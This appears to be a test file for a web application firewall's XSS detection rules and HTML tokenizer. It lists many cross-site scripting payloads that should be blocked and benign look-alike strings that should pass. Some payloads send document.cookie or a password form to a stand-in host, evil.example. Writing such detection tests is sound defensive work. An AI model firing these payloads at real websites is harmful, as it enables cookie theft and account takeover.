import { expect } from 'chai';
import { tokenizeHtml } from '../../../plugins/waf/engine/html-tokenizer.js';
import { findMissed, listRules, findWronglyBlocked } from './helpers.js';

const ATTACKS = [
  '<script>alert(1)</script>',
  '<svg onload=alert(1)>',
  '<img src=x onerror=alert(document.domain)>',
  '<body onpageshow=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '" autofocus onfocus="alert(1)',
  "' onmouseover='alert(1)",
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java%0ascript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  '<object data="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><input type=submit>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<div style="background:url(javascript:alert(1))">',
  '<div style="width: expression(alert(1))">',
  "<style>@import 'http://evil.example/x.css';</style>",
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '</script><script>alert(1)</script>',
  "';alert(String.fromCharCode(88,83,83))//",
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a><animate attributeName=href values=javascript:alert(1) /></a>',
  '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '%253Cscript%253Ealert(1)%253C%252Fscript%253E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<IMG SRC=`javascript:alert("XSS")`>',
  '<svg/onload=alert(1)//',
  '<x onclick=alert(1)>click',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<xss onpointerenter=alert(1)>',
  '"-alert(1)-"',
  '<img src=1 onerror=alert`1`>',
  '＜script＞alert(1)＜/script＞',
  '[click](javascript:alert(1))',
  '<a href=javascript&colon;alert&lpar;1&rpar;>x</a>',
  '<script>document.location="http://evil.example/?"+document.cookie</script>',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<<scr\\0ipt/src=http://evil.example/x.js></script>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<math><a xlink:href="//evil.example">x</a>',
  '<img src=x onerror=fetch("//evil.example/"+document.cookie)>',
  '\'\';!--"<XSS>=&{()}',
  '<div style="font-family:foo}color=red;">x</div>',
  // Structure and form elements, comment openers, sinks taken as values, encoded-bracket probes.
  '<form action=//evil.example/login><input name=pass type=password>',
  '</head><body>Site moved</body>',
  '<textarea name=x>',
  '<marquee>pwned</marquee>',
  'ok<!--',
  'f=confirm;f(document.domain)',
  '[1,2].forEach(prompt)',
  'self["con"+"firm"](1)',
  'parent[\'eval\'](name)',
  'Function.constructor(atob(name))()',
  'setTimeout.call(null,name)',
  '&#x003C;',
  '\\u003e\\u003c',
];

const LOOK_ALIKES = [
  '"Ann Lee" <ann.lee@example.com>',
  'Reply to: "Shop Support"<support@shop.example.co.uk>',
  '<3 love it',
  'a < b > c',
  'Tom & Jerry',
  'I <3 <3 the doctor',
  'x < 10 and y > 20 cm',
  '"JavaScript: The Good Parts"',
  'JavaScript: The Definitive Guide (7th ed)',
  'Javascript for kids book',
  'alert bracelet medical ID',
  'onload cargo bike',
  'iframe photo frame 8"',
  'Script font wedding invitation',
  'style=modern',
  'Please confirm my order',
  'document holder',
  'cookie jar',
  'window cleaner',
  '<b>bold</b> text',
  '<p>Hello</p>',
  'Hello<br/>World',
  'BLAH <A HREF="/PATH1/PATH2/PATH3">FOO</A>',
  '<a href="https://example.com">link</a>',
  'Hair dryer 1800W -> 2000W upgrade',
  'Love it <3 <3 <3',
  '5 stars!!! :-)',
  '{"note":"gift wrap, please"}',
  'Facial expression (happy) poster',
  'data: 2 GB plan',
  'evaluation kit (eval)',
  'Please confirm (yes/no)',
  'Medical alert (bracelet)',
  'Reply (confirm) by Friday',
  'mode=alert; volume=low',
  'top[3] picks for summer',
  'window[2] seat please',
  'Set of 4 (prompt delivery)',
  'x &lt; y',
  '<b>Bold</b>, <i>italic</i>, <table><tr><td>1</td></tr></table>',
  '<img src="a.png" alt="x">',
];

describe('waf xss', () => {
  it('blocks script-capable markup, handlers, script URLs and JS sinks in any encoding', () => {
    expect(findMissed(ATTACKS)).to.deep.equal([]);
  });

  it('passes text with angle brackets, ampersands and harmless markup', () => {
    expect(findWronglyBlocked(LOOK_ALIKES)).to.deep.equal([]);
  });

  it('identifies the executing construct', () => {
    expect(listRules('<img src=x onerror=alert(1)>', 'xss')).to.include('xss.event-handler');
    expect(listRules('<script>x</script>', 'xss')).to.include('xss.dangerous-tag');
    expect(listRules('<a href="javascript:x()">', 'xss')).to.include('xss.script-url-attribute');
    expect(listRules('" onfocus="x()', 'xss')).to.include('xss.event-handler');
  });

  it('treats well-formed inline CSS as paranoia 2 and obfuscated CSS as an attack', () => {
    expect(listRules('<span style="color: red; font-family: \'Open Sans\', sans-serif">x</span>', 'xss', 1)).to.deep.equal([]);
    expect(listRules('<span style="color: red">x</span>', 'xss', 2)).to.include('xss.style-attribute');
    expect(listRules('<div style="[a]color[b]:[c]red">x</div>', 'xss', 1)).to.include('xss.obfuscated-style');
    expect(listRules('<div style="x:exp\\72 ession(alert(1))">', 'xss', 1)).to.include('xss.style-injection');
  });

  it('names structure tags, comment openers, sink references and encoded-bracket probes', () => {
    expect(listRules('<body>', 'xss')).to.include('xss.structure-tag');
    expect(listRules('</form>', 'xss')).to.include('xss.structure-tag');
    expect(listRules('<!-- x', 'xss')).to.include('xss.markup-comment');
    expect(listRules('a=eval;a(name)', 'xss')).to.include('xss.js-sink-reference');
    expect(listRules('top[8680439..toString(30)](1)', 'xss')).to.include('xss.js-sink-reference');
    expect(listRules('&#60;', 'xss')).to.include('xss.encoded-markup-probe');
    // The assigned name must be called: an assignment alone is a setting.
    expect(listRules('a=eval;b=1', 'xss')).to.deep.equal([]);
  });

  it('flags plain markup only at paranoia 2', () => {
    expect(listRules('<img src="a.png" alt="x">', 'xss', 1)).to.deep.equal([]);
    expect(listRules('<img src="a.png" alt="x">', 'xss', 2)).to.include('xss.html-tag');
  });

  describe('tokenizer', () => {
    it('separates tags, attributes and values', () => {
      const toks = tokenizeHtml('<img src="a b" onerror=x>', 'data').map((t) => `${t.type}:${t.value}`);
      expect(toks).to.deep.equal(['tag-open:img', 'attr-name:src', 'attr-value:a b', 'attr-name:onerror', 'attr-value:x', 'tag-end:>']);
    });

    it('starts inside a quoted attribute for attribute contexts', () => {
      const toks = tokenizeHtml('x" onclick="y', 'attr-double').map((t) => `${t.type}:${t.value}`);
      expect(toks).to.deep.equal(['attr-value:x', 'attr-name:onclick', 'attr-value:y']);
    });

    it('treats "<" not followed by a letter as text', () => {
      expect(tokenizeHtml('a < b <3', 'data').every((t) => t.type === 'text')).to.equal(true);
    });
  });
});
